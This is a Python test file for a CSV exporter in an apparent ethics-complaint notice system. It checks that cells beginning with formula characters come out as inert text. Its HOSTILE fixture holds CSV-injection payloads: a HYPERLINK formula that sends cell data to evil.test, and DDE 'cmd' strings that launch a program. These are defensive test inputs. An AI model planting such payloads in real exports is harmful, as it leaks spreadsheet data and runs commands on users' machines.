"""`ethicsbot notices --format csv` (and the web record's proof-of-notice.csv, the same
writer) cannot make the clerk's spreadsheet run a formula: a cell beginning with
= + - @, a tab or a carriage return (OWASP's CSV injection list) is written with a leading
apostrophe, and every cell is quoted (a CR inside one cannot start a row of its own);
every other cell is left as it was."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from ethicsbot.cli import main
from notices.proof import FORMULA_STARTS, proof_csv
from storage.db import make_engine
from storage.models import DeliveryRow, OutboxRow
from tests.integration.cli.test_cli import CORPUS, here

__all__ = ["here"]  # a fixture, used by name

HOSTILE = {
    "=": '=HYPERLINK("http://evil.test/?"&A1,"Click for the hearing date")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_a_stranger_s_words_in_the_proof_of_notice_csv_are_text(
        here: Path, capsys: pytest.CaptureFixture[str], database_url: str) -> None:
    shutil.copy(CORPUS / "gmail-forward-letter.eml", here / "c.eml")
    assert main(["file", "c.eml"]) == 0
    engine = make_engine(database_url)
    with engine.begin() as conn:  # what a stranger's address and a server's echo can be
        first = conn.execute(select(OutboxRow.id, OutboxRow.message_id)
                             .order_by(OutboxRow.id).limit(1)).one()
        conn.execute(OutboxRow.__table__.update().where(OutboxRow.id == first.id)
                     .values(recipient_email='=1+1"@evil.test'))
        for n, reply in enumerate(HOSTILE.values()):
            conn.execute(DeliveryRow.__table__.insert().values(
                outbox_id=first.id, attempted_at=datetime(2026, 12, 1, n, tzinfo=UTC),
                recipient="x", message_id=first.message_id, outcome="temporary",
                server_reply=reply))
    engine.dispose()
    capsys.readouterr()
    assert main(["notices", "ETH-2026-0001", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    lines = list(csv.DictReader(io.StringIO(out)))
    replies = [x["server_reply"] for x in lines if x["server_reply"]]
    assert len(replies) == len(HOSTILE)
    for reply in replies:  # the terminal shows a CR as a mark; the rest come through
        assert reply.startswith("'") and reply[1:] in {
            *HOSTILE.values(), HOSTILE["\r"].replace("\r", "[U+000D]")}, reply
    assert {x["recipient"] for x in lines[:len(HOSTILE)]} == {"'=1+1\"@evil.test"}
    for x in lines:
        for value in x.values():
            assert not value.startswith(FORMULA_STARTS), value
    assert "clerk@city.test" in {x["recipient"] for x in lines}  # the others as they were


def test_every_formula_start_in_every_column_and_nothing_else() -> None:
    notices = [{"type": v, "recipient": v, "message_id": v, "status": v, "deadline": v,
                "sent_at": v, "cancelled_at": v, "cancel_reason": v,
                "attempts": [{"at": v, "outcome": v, "server_reply": v}]}
               for v in HOSTILE.values()]
    benign = ["complaint_to_respondent", "gpruitt@city.test", "<eth-2026-0001.x@city.test>",
              "2026-12-01T08:05:00+00:00", "250 OK", "'already quoted", "a = b", ""]
    notices += [{"type": v, "recipient": v, "message_id": v, "status": v, "deadline": v,
                 "sent_at": v, "cancelled_at": v, "cancel_reason": v,
                 "attempts": [{"at": v, "outcome": v, "server_reply": v}]} for v in benign]
    text = proof_csv("=CASE", notices)
    assert len(text.split("\n")) == 1 + len(notices) + 1  # a line each (and the last \n)
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    for row, value in zip(rows, [*HOSTILE.values(), *benign], strict=True):
        assert row[0] == "'=CASE"
        assert set(row[1:]) == ({"'" + value} if value in HOSTILE.values() else {value})
